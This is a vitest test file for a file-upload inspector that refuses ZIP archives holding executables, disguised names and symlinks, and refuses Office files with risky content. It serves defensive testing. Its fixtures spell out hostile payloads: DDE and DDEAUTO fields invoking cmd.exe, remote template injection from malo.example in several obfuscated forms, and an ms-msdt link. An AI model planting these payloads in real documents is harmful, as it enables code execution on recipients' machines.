import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ZipFile } from 'yazl';
import { inspectFile } from './inspect.ts';
import { ownTurn } from './turn.ts';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'office-'));
});
afterAll(() => rm(dir, { recursive: true, force: true }));

type Files = Record<string, string | Buffer>;

async function zip(files: Files): Promise<Buffer> {
  const archive = new ZipFile();
  for (const [name, content] of Object.entries(files)) archive.addBuffer(Buffer.from(content), name);
  archive.end();
  return buffer(archive.outputStream);
}

const OFFICE = 'application/vnd.openxmlformats-officedocument';
const types = (part: string, extra = '') =>
  `<Types><Override PartName="/x" ContentType="${OFFICE}.${part}.main+xml"/>${extra}</Types>`;
const book = (files: Files = {}) =>
  zip({
    '[Content_Types].xml': types('spreadsheetml.sheet'),
    'xl/workbook.xml': '<workbook><sheets><sheet name="Hoja1"/></sheets></workbook>',
    ...files,
  });
const text = (files: Files = {}) =>
  zip({
    '[Content_Types].xml': types('wordprocessingml.document'),
    'word/document.xml': '<w:document><w:p>Acta</w:p></w:document>',
    ...files,
  });
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="r1" Type="${RELATIONSHIPS}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const DOCUMENT_RELS = 'word/_rels/document.xml.rels';
const SETTINGS_RELS = 'word/_rels/settings.xml.rels';

async function inspect(name: string, bytes: Buffer): Promise<string> {
  const path = join(dir, 'archivo');
  await writeFile(path, bytes);
  return inspectFile(path, name, ownTurn()).then(
    () => 'admitido',
    (error: { code: string; message: string }) => `${error.code}: ${error.message}`,
  );
}

describe('a ZIP holds documents only', () => {
  test.each([
    'instalar.exe',
    'x/Instalar.EXE',
    'oferta.pdf.exe',
    'oferta.exe.',
    'oferta.exe . ',
    'oferta.exe::$DATA',
    'a.dll',
    'a.bat',
    'a.cmd',
    'a.com',
    'a.scr',
    'a.msi',
    'a.js',
    'a.vbs',
    'a.ps1',
    'a.jar',
    'a.apk',
    'a.sh',
    'pagina.html',
    'pagina.htm',
    'logo.svg',
    'a.hta',
    'a.lnk',
    'a.iso',
    'precios.xlsm',
    'carta.docm',
    'precios.xlsb',
  ])('%s within it is refused by its name, and with what to do', async (inner) => {
    expect(await inspect('anexos.zip', await zip({ 'bases.pdf': 'x', [inner]: 'x' }))).toBe(
      `file_content_refused: anexos.zip contiene «${inner}», un programa, una página o un archivo con macros. ` +
        'Quítalo, o ponlo como PDF, y súbelo otra vez.',
    );
  });

  test('an archive within an archive is refused, because nobody looks into it', async () => {
    const inner = await zip({ 'virus.exe': 'x' });
    expect(await inspect('anexos.zip', await zip({ 'dentro/otro.zip': inner }))).toContain(
      'anexos.zip contiene «dentro/otro.zip», un archivo comprimido dentro de otro',
    );
    expect(await inspect('anexos.zip', await zip({ 'planos.rar': 'x' }))).toContain('«planos.rar»');
  });

  test('a name that turns around, one without end and one that comes twice', async () => {
    expect(await inspect('a.zip', await zip({ 'oferta\u202Efdp.exe': 'x' }))).toContain(
      'a.zip contiene «oferta·fdp.exe», un nombre con signos que no se ven',
    );
    expect(await inspect('a.zip', await zip({ [`${'a'.repeat(5000)}.pdf`]: 'x' }))).toMatch(
      /^file_content_refused: a\.zip contiene «…a{116}\.pdf», un nombre de más de 400 letras/,
    );
    expect(await inspect('a.zip', await zip({ 'a.pdf': 'x', 'A.PDF': 'y' }))).toContain(
      'tiene dos veces «A.PDF»',
    );
  });

  test('a symbolic link within it is refused', async () => {
    const archive = new ZipFile();
    archive.addBuffer(Buffer.from('/etc/passwd'), 'lista.txt', { mode: 0o120777 });
    archive.end();
    expect(await inspect('a.zip', await buffer(archive.outputStream))).toContain('rutas que salen');
  });

  test('ordinary documents, drawings, tables, invoices and names with points pass', async () => {
    const files = [
      'Bases v1.2.pdf',
      'planos/planta baja.dwg',
      'CFDI.xml',
      'foto.jpg',
      'precios.xlsx',
      'sin terminacion',
    ];
    expect(await inspect('a.zip', await zip(Object.fromEntries(files.map((file) => [file, 'x']))))).toBe(
      'admitido',
    );
  });
});

describe('office files neither act, reach out nor bring other files along', () => {
  const REFUSED: [string, string, Files][] = [
    [
      'links to other books',
      'xl/externalLinks/externalLink1.xml',
      {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      },
    ],
    [
      'a link to a book under another name',
      'xl/_rels/workbook.xml.rels',
      { 'xl/_rels/workbook.xml.rels': rels('externalLink', 'otra/parte.xml', 'Internal') },
    ],
    ['data connections', 'xl/connections.xml', { 'xl/connections.xml': '<connections/>' }],
    ['an object', 'xl/embeddings/oleObject1.bin', { 'xl/embeddings/oleObject1.bin': 'x' }],
    [
      'an object under another name',
      'xl/worksheets/_rels/sheet1.xml.rels',
      { 'xl/worksheets/_rels/sheet1.xml.rels': rels('oleObject', '../medios/foto.png', 'Internal') },
    ],
    ['macros', 'xl/vbaProject.bin', { 'xl/vbaProject.bin': 'x' }],
    ['data of macros', 'word/vbaData.xml', { 'word/vbaData.xml': '<x/>' }],
    [
      'values of other programs',
      'xl/volatileDependencies.xml',
      { 'xl/volatileDependencies.xml': '<volTypes/>' },
    ],
    ['ActiveX', 'xl/activeX/activeX1.xml', { 'xl/activeX/activeX1.xml': '<ocx/>' }],
    ['sheets of old macros', 'xl/macrosheets/sheet1.xml', { 'xl/macrosheets/sheet1.xml': '<x/>' }],
    [
      'macros under another name',
      'xl/_rels/workbook.xml.rels',
      { 'xl/_rels/workbook.xml.rels': rels('vbaProject', 'datos.bin', 'Internal') },
    ],
    ['an add-in', 'xl/webextensions/taskpanes.xml', { 'xl/webextensions/taskpanes.xml': '<x/>' }],
    [
      'a remote picture',
      'xl/drawings/_rels/drawing1.xml.rels',
      { 'xl/drawings/_rels/drawing1.xml.rels': rels('image', 'http://malo.example/pixel.png') },
    ],
  ];
  test.each(REFUSED)('XLSX with %s is refused and %s is named', async (_, part, files) => {
    expect(await inspect('precios.xlsx', await book(files))).toMatch(
      new RegExp(
        `^file_content_refused: precios\\.xlsx contiene .*\\(«${part.replaceAll(/[[\].]/g, '\\$&')}»\\)\\. `,
      ),
    );
  });

  const field = (code: string) =>
    `<w:document xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:t>1</w:t><w:r><w:fldChar w:fldCharType="end"/></w:r></w:document>`;
  const piece = (code: string) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`;
  const TEXTS: [string, string, Files][] = [
    [
      'a remote template',
      SETTINGS_RELS,
      { [SETTINGS_RELS]: rels('attachedTemplate', 'https://malo.example/t.dotm') },
    ],
    [
      'a template of another computer',
      SETTINGS_RELS,
      { [SETTINGS_RELS]: rels('attachedTemplate', 'file:///\\\\malo.example\\t\\t.dotm') },
    ],
    [
      'a remote address in signs',
      SETTINGS_RELS,
      { [SETTINGS_RELS]: rels('attachedTemplate', '&#104;ttp://malo.example/t.dotm') },
    ],
    [
      'a mode that another hides',
      SETTINGS_RELS,
      {
        [SETTINGS_RELS]: rels('attachedTemplate', 'http://malo.example/t.dotm')
          .replace('TargetMode', 'x:TargetMode="Internal" TargetMode')
          .replace('/></', ' y:TargetMode="Internal"/></'),
      },
    ],
    [
      'relationships in UTF-16',
      SETTINGS_RELS,
      {
        [SETTINGS_RELS]: Buffer.from(
          `\uFEFF${rels('attachedTemplate', 'http://malo.example/t.dotm')}`,
          'utf16le',
        ),
      },
    ],
    [
      'another file (altChunk)',
      DOCUMENT_RELS,
      { [DOCUMENT_RELS]: rels('aFChunk', 'afchunk.html', 'Internal') },
    ],
    ['an object', 'word/embeddings/oleObject1.bin', { 'word/embeddings/oleObject1.bin': 'x' }],
    [
      'an embedded book',
      DOCUMENT_RELS,
      { [DOCUMENT_RELS]: rels('package', 'embeddings/a.xlsx', 'Internal'), 'word/embeddings/a.xlsx': 'x' },
    ],
    ['ActiveX', 'word/activeX/activeX1.bin', { 'word/activeX/activeX1.bin': 'x' }],
    ['a control', DOCUMENT_RELS, { [DOCUMENT_RELS]: rels('control', 'a.xml', 'Internal') }],
    ['a link that runs', DOCUMENT_RELS, { [DOCUMENT_RELS]: rels('hyperlink', 'ms-msdt:/id PCWDiagnostic') }],
    [
      'a link to another computer',
      DOCUMENT_RELS,
      { [DOCUMENT_RELS]: rels('hyperlink', '\\\\malo.example\\carpeta') },
    ],
    [
      'a field of programs',
      'word/document.xml',
      { 'word/document.xml': field(piece('DDEAUTO c:\\\\cmd.exe')) },
    ],
    [
      'a field in pieces',
      'word/header1.xml',
      { 'word/header1.xml': field(piece(' D') + piece('DE') + piece('AUTO x')) },
    ],
    [
      'a field made by fields',
      'word/document.xml',
      { 'word/document.xml': field(field(piece('QUOTE 68 68 69'))) },
    ],
    [
      'a simple field',
      'word/footnotes.xml',
      { 'word/footnotes.xml': '<w:fldSimple w:instr="dde excel a b"/>' },
    ],
    [
      'a field in a part of another name',
      'otra/cosa.dat',
      {
        '[Content_Types].xml': types(
          'wordprocessingml.document',
          `<Override PartName="/otra/cosa.dat" ContentType="${OFFICE}.wordprocessingml.footer+xml"/>`,
        ),
        'otra/cosa.dat': '<w:fldSimple w:instr="DDEAUTO x"/>',
      },
    ],
    [
      'macros that its types name',
      '[Content_Types].xml',
      {
        '[Content_Types].xml': types(
          'wordprocessingml.document',
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      },
    ],
  ];
  test.each(TEXTS)('DOCX with %s is refused and %s is named', async (_, part, files) => {
    const answer = await inspect('acta.docx', await text(files));
    expect(answer).toMatch(/^file_content_refused: acta\.docx contiene /);
    expect(answer).toContain(`(«${part}»). `);
  });

  test('ordinary ones pass: pages, mails, other documents, own template, fields, charts with their table', async () => {
    const links = [
      'https://www.ugto.mx/?a=1&amp;b=2',
      'mailto:compras@universidad.example',
      'Anexo%201.pdf',
      'file:///C:\\Users\\ana\\Anexo.pdf',
    ].map((target, index) => rels('hyperlink', target).replace('r1', `r${index}`));
    const together = `<Relationships>${links.join('').replaceAll(/<\/?Relationships>/g, '')}</Relationships>`;
    const word = await text({
      [DOCUMENT_RELS]: together,
      [SETTINGS_RELS]: rels('attachedTemplate', 'file:///C:\\Users\\ana\\Plantillas\\Oficio.dotm'),
      'word/charts/_rels/chart1.xml.rels': rels('package', '../embeddings/tabla.xlsx', 'Internal'),
      'word/embeddings/tabla.xlsx': 'x',
      'word/document.xml': field(piece(' HYPERLINK "http://x.example/dde/" ')) + field(piece('PAGE')),
    });
    expect(await inspect('acta.docx', word)).toBe('admitido');
    expect(
      await inspect('precios.xlsx', await book({ 'xl/worksheets/_rels/sheet1.xml.rels': together })),
    ).toBe('admitido');
  });

  test('a part that is no XML, declares a document type or never ends is damage', async () => {
    for (const broken of ['<!DOCTYPE x [<!ENTITY a "http:">]><x/>', '<x a="', '<x', '<!-- ', '<x a=b/>']) {
      expect(await inspect('acta.docx', await text({ [DOCUMENT_RELS]: broken }))).toContain('está dañado');
    }
  });

  test('a book of two megabytes of tags without an end is read once', async () => {
    const tags = '<sheet '.repeat(300_000);
    expect(await inspect('precios.xlsx', await book({ 'xl/workbook.xml': tags }))).toContain('está dañado');
    const many = '<sheet name="a"/>'.repeat(300_000);
    expect(await inspect('precios.xlsx', await book({ 'xl/workbook.xml': many }))).toBe('admitido');
  });

  test('parts that together are more than a document has are refused', async () => {
    const long = `<w:p>${'x'.repeat(33_000_000)}</w:p>`;
    const noise = Buffer.from(Array.from({ length: 400_000 }, (_, index) => (index * 2_654_435_761) % 251));
    expect(
      await inspect('acta.docx', await text({ 'word/document.xml': long, 'word/media/a.png': noise })),
    ).toContain('demasiado largo para revisarse');
  });
});
